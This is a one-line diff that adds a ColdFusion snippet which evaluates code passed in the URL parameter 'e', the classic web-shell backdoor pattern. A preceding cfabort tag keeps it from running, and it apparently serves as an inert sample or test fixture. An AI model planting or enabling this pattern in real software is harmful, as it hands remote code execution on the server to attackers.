@@ -1,0 +1,1 @@
+<cfabort><cfset x = evaluate(url.e)>
